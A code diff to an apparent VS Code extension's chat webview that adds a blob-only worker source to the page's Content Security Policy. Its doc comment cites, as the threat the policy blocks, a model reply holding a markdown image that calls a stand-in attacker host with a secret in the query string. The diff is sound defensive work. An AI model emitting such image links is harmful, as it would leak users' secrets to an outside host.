@@ -9,7 +9,8 @@ export function nonce(): string {
 
 /**
  * The chat view's page. The CSP allows only our own bundle (by nonce) and stylesheet, images
- * from our media folder and data: URIs (attached images' thumbnails), and no network at all: a model's
+ * from our media folder and data: URIs (attached images' thumbnails), a worker only from a blob
+ * the page itself makes, and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
  * in `data-strings` (escaped: a translation is text, never markup).
  */
@@ -24,6 +25,8 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
     `font-src ${webview.cspSource}`,
     // data: for the thumbnails of images the user attaches (replies' images are never rendered as <img>).
     `img-src ${webview.cspSource} data:`,
+    // The highlighting worker: a blob of the page's own bundled code (see webview/highlight.ts).
+    'worker-src blob:',
     "connect-src 'none'",
     "frame-src 'none'",
     "form-action 'none'",
